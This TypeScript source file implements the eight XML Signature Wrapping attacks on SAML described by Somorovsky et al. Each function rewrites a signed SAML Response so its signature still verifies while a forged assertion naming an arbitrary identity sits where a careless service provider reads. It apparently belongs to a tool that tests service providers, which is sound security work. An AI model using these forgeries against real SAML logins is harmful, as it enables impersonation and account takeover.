import type { Document, Element } from '@xmldom/xmldom';
import { childElement } from '../../../lib/xml.ts';
import { ns } from '../../saml/constants.ts';
import {
  assertionsOf,
  forgedAssertion,
  forgeIdentity,
  newId,
  responseSignature,
  signatureOf,
  signedAssertion,
  unsignedCopy,
} from './edit-xml.ts';

/**
 * The eight XML Signature wrapping (XSW) structures of Somorovsky et al., "On Breaking
 * SAML: Be Whoever You Want to Be" (USENIX Security 2012). Each keeps the legitimate
 * signed content where the signature's reference still finds it, and adds a forged
 * assertion naming `identity` where a careless SP reads. The signature stays valid; only
 * what the SP reads differs from what was signed.
 *
 * IDs stay unique throughout (the forged element always gets a new ID), so an SP that
 * refuses duplicate IDs is judged on where it reads the assertion, not on that refusal.
 */
export type XswVariant = 1 | 2 | 3 | 4 | 5 | 6 | 7 | 8;

type Wrap = (doc: Document, response: Element, identity: string) => void;

const fault = (n: number) => `saml.signature-wrapping (XSW${n})`;

/**
 * XSW1 (Response signature): the signed Response moves into the signature's ds:Object;
 * the outer Response gets a new ID and a forged assertion in place of the original.
 */
const xsw1: Wrap = (doc, response, identity) => {
  const signature = responseSignature(response, fault(1));
  const original = unsignedCopy(response);
  const object = doc.createElementNS(ns.dsig, 'ds:Object');
  object.appendChild(original);
  signature.appendChild(object);
  replaceAssertionsWithForgery(response, identity);
  response.setAttribute('ID', newId());
};

/**
 * XSW2 (Response signature): as XSW1, but the signed Response sits detached, as a
 * sibling just before the signature.
 */
const xsw2: Wrap = (_doc, response, identity) => {
  const signature = responseSignature(response, fault(2));
  const original = unsignedCopy(response);
  response.insertBefore(original, signature);
  replaceAssertionsWithForgery(response, identity);
  response.setAttribute('ID', newId());
};

/** XSW3 (Assertion signature): a forged assertion is inserted before the signed one. */
const xsw3: Wrap = (_doc, response, identity) => {
  const signed = signedAssertion(response, fault(3));
  response.insertBefore(forgedAssertion(signed, identity), signed);
};

/** XSW4 (Assertion signature): a forged assertion takes the signed one's place and wraps it. */
const xsw4: Wrap = (_doc, response, identity) => {
  const signed = signedAssertion(response, fault(4));
  const evil = forgedAssertion(signed, identity);
  response.replaceChild(evil, signed);
  evil.appendChild(signed);
};

/**
 * XSW5 (Assertion signature): the forged assertion keeps the signature (whose reference
 * still names the original ID); an unsigned copy of the original goes to the end of the
 * Response, where the reference finds it.
 */
const xsw5: Wrap = (_doc, response, identity) => {
  const { original } = forgeAroundSignature(response, identity, fault(5));
  response.appendChild(original);
};

/** XSW6 (Assertion signature): as XSW5, but the original copy goes inside the kept signature. */
const xsw6: Wrap = (_doc, response, identity) => {
  const { evil, original } = forgeAroundSignature(response, identity, fault(6));
  signatureOf(evil)!.appendChild(original);
};

/**
 * XSW7 (Assertion signature): the forged assertion hides in a samlp:Extensions element
 * (whose content schemas do not check) before the Status; the signed assertion stays.
 */
const xsw7: Wrap = (doc, response, identity) => {
  const signed = signedAssertion(response, fault(7));
  const extensions = doc.createElementNS(ns.protocol, 'samlp:Extensions');
  extensions.appendChild(forgedAssertion(signed, identity));
  const status = childElement(response, 'Status');
  response.insertBefore(extensions, status ?? signed);
};

/** XSW8 (Assertion signature): as XSW6, with the original copy in a ds:Object of the kept signature. */
const xsw8: Wrap = (doc, response, identity) => {
  const { evil, original } = forgeAroundSignature(response, identity, fault(8));
  const object = doc.createElementNS(ns.dsig, 'ds:Object');
  object.appendChild(original);
  signatureOf(evil)!.appendChild(object);
};

/** Every assertion of the (outer) Response becomes an unsigned forgery under a new ID. */
function replaceAssertionsWithForgery(response: Element, identity: string): void {
  const assertions = assertionsOf(response);
  if (assertions.length === 0) throw new Error('signature wrapping needs an assertion to forge');
  for (const assertion of assertions) response.replaceChild(forgedAssertion(assertion, identity), assertion);
}

/**
 * XSW5, 6 and 8: the signed assertion itself becomes the forgery (new ID, forged
 * identity, its signature kept); `original` is an unsigned copy under the original ID.
 */
function forgeAroundSignature(
  response: Element,
  identity: string,
  name: string,
): { evil: Element; original: Element } {
  const signed = signedAssertion(response, name);
  const original = unsignedCopy(signed);
  forgeIdentity(signed, identity);
  signed.setAttribute('ID', newId());
  return { evil: signed, original };
}

export const xswVariants: Record<XswVariant, Wrap> = {
  1: xsw1,
  2: xsw2,
  3: xsw3,
  4: xsw4,
  5: xsw5,
  6: xsw6,
  7: xsw7,
  8: xsw8,
};
